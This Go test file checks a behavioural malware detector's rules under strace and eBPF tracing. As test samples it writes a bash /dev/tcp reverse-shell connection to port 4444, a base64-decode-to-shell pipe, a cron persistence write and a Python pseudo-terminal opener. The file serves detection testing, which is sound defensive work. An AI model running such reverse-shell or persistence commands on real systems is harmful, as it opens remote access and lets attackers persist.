package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"detector/rules"
)

// identityRow is a detect JSON row with what these tests read.
type identityRow struct {
	Sample   string
	Severity string
	Findings []struct {
		Rule     string
		Severity string
		Message  string
		Evidence []struct{ Rule string }
		Process  struct{ Exe, Executed string }
	}
}

func (r identityRow) find(rule string) int {
	for i, f := range r.Findings {
		if f.Rule == rule {
			return i
		}
	}
	return -1
}

// A #!/bin/bash script doing exec 3<>/dev/tcp/... is judged as bash -c
// doing it: shell-network and outbound-backdoor-port, two WARNING rules
// at once, an ALERT (multiple-warnings) naming both, under strace and
// under eBPF. The address is outside loopback, in the sandbox's own
// network namespace, where it goes nowhere. In the same runs
// decode-to-shell pairs base64 -d with the shell its pipe feeds, and
// cat FILE | sh is nothing.
func TestScriptLikeBashC(t *testing.T) {
	needStrace(t)
	m := trainTraces(t)
	dir := t.TempDir()
	script := filepath.Join(dir, "t.sh")
	if err := os.WriteFile(script, []byte("#!/bin/bash\nexec 3<>/dev/tcp/10.0.0.1/4444\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	const (
		bashC  = `bash -c 'exec 3<>/dev/tcp/10.0.0.1/4444'`
		decode = `sh -c 'echo ZWNobyBoaQo= | base64 -d | sh'`
		catSh  = `sh -c 'printf "echo hi\n" > /tmp/x.sh; cat /tmp/x.sh | sh'`
	)
	cmds := filepath.Join(dir, "commands.txt")
	if err := os.WriteFile(cmds, []byte(bashC+"\n"+decode+"\n"+catSh+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tracers := []string{"strace"}
	if ebpfLoads() {
		tracers = append(tracers, "ebpf")
	} else {
		t.Log("the eBPF tracer cannot load here: strace only")
	}
	for _, tracer := range tracers {
		r := run(t, nil, "detect", "--output", "json", "--fail-on", "never", "--tracer", tracer, "--model", m, "--commands", cmds, script)
		if r.code != 0 {
			t.Fatalf("%s: detect: %d %s", tracer, r.code, r.stderr)
		}
		rows := map[string]identityRow{}
		for _, l := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
			var row identityRow
			if err := json.Unmarshal([]byte(l), &row); err != nil {
				t.Fatalf("%v: %s", err, l)
			}
			rows[row.Sample] = row
		}
		for _, name := range []string{script, bashC} {
			row, ok := rows[name]
			if !ok {
				for s := range rows {
					if strings.HasSuffix(s, "/t.sh") && name == script {
						row, ok = rows[s], true
					}
				}
			}
			if !ok {
				t.Fatalf("%s: no row for %s: %s", tracer, name, r.stdout)
			}
			i, j := row.find(rules.CombinedRule), row.find("shell-network")
			if row.Severity != "ALERT" || i < 0 || j < 0 {
				t.Errorf("%s: %s: severity %s, findings %+v; want an ALERT of shell-network with another WARNING", tracer, name, row.Severity, row.Findings)
				continue
			}
			var named []string
			for _, ev := range row.Findings[i].Evidence {
				named = append(named, ev.Rule)
			}
			slices.Sort(named)
			if !slices.Equal(named, []string{"outbound-backdoor-port", "shell-network"}) {
				t.Errorf("%s: %s: the escalation's evidence names %v", tracer, name, named)
			}
			if name == script && !strings.HasSuffix(filepath.Base(row.Findings[j].Process.Executed), "bash") {
				t.Errorf("%s: the script's process %+v is not told as run by bash", tracer, row.Findings[j].Process)
			}
		}
		if row := rows[decode]; row.find("decode-to-shell") < 0 || row.Findings[row.find("decode-to-shell")].Message != "base64 -d | sh" {
			t.Errorf("%s: base64 -d | sh: %+v", tracer, row.Findings)
		}
		for _, f := range rows[catSh].Findings {
			if f.Rule == "decode-to-shell" || f.Rule != "model-anomaly" && (f.Severity == "WARNING" || f.Severity == "ALERT") {
				t.Errorf("%s: cat FILE | sh: %s %s %s", tracer, f.Rule, f.Severity, f.Message)
			}
		}
	}
}

// ebpfLoads reports whether the eBPF tracer loads here.
func ebpfLoads() bool {
	if os.Getuid() != 0 {
		return false
	}
	r := exec.Command(binary, "trace", "--tracer", "ebpf", "--out", os.DevNull, "--", "/bin/true")
	return r.Run() == nil
}

// The monitor raises the escalation the moment the second WARNING rule
// arrives, under strace and under eBPF: a write to a cron folder (that
// does not exist: nothing is written) is persistence-write and
// system-dir-write, and the log gets a multiple-warnings ALERT whose
// evidence names both. A Python script opening a pseudo-terminal is an
// interpreter to interpreter-pty, though its process is named after the
// script.
func TestMonitorCombinedWarnings(t *testing.T) {
	needStrace(t)
	// The system's Python: a binary, not a wrapper script of a version
	// manager, whose own exec would replace the script's identity.
	python, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		t.Skip("/usr/bin/python3 is not installed")
	}
	dir := t.TempDir()
	pty := filepath.Join(dir, "upgrade.py")
	if err := os.WriteFile(pty, []byte("#!"+python+"\nimport os\nos.openpty()\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	cron := []string{"sh", "-c", "echo '* * * * * root true' > /etc/cron.d/detector-test-absent/job; true"}
	check := func(source, log string) {
		t.Helper()
		recs := logRecords(t, log)
		a := hasRecord(recs, "alert", rules.CombinedRule)
		if a == nil || a["severity"] != "ALERT" || a["source"] != source {
			t.Errorf("%s: no %s ALERT:\n%s", source, rules.CombinedRule, log)
		} else {
			var named []string
			for _, ev := range a["evidence"].([]any) {
				named = append(named, ev.(map[string]any)["rule"].(string))
			}
			slices.Sort(named)
			msg, _ := a["message"].(string)
			if !slices.Equal(named, []string{"persistence-write", "system-dir-write"}) || !strings.Contains(msg, "persistence-write, system-dir-write") && !strings.Contains(msg, "system-dir-write, persistence-write") {
				t.Errorf("%s: escalation evidence %v, message %q", source, named, msg)
			}
		}
		found := false
		for _, r := range recs {
			if r["rule"] == "interpreter-pty" {
				p, _ := r["process"].(map[string]any)
				found = found || strings.HasSuffix(p["exe"].(string), "upgrade.py")
			}
		}
		if !found {
			t.Errorf("%s: the script opening a pseudo-terminal is not interpreter-pty:\n%s", source, log)
		}
	}
	var log strings.Builder
	for _, argv := range [][]string{cron, {pty}} {
		r := run(t, nil, append([]string{"monitor", "--source", "strace", "--"}, argv...)...)
		if r.code != 0 {
			t.Fatalf("monitor %v: %d %s", argv, r.code, r.stderr)
		}
		log.WriteString(r.stdout)
	}
	check("strace", log.String())

	if !ebpfLoads() {
		t.Log("the eBPF tracer cannot load here: strace only")
		return
	}
	logFile := filepath.Join(t.TempDir(), "log.jsonl")
	stop := startMonitorLog(t, logFile, "--source", "ebpf")
	exec.Command(cron[0], cron[1:]...).Run()
	if out, err := exec.Command(pty).CombinedOutput(); err != nil {
		t.Fatalf("%s: %v %s", pty, err, out)
	}
	awaitRecords(t, logFile, func(log string) bool {
		return strings.Contains(log, `"rule":"`+rules.CombinedRule+`"`) && strings.Contains(log, `"rule":"interpreter-pty"`)
	})
	out, stderr, code := stop()
	if code != 0 {
		t.Fatalf("monitor: exit %d: %s", code, stderr)
	}
	check("ebpf", out)
}
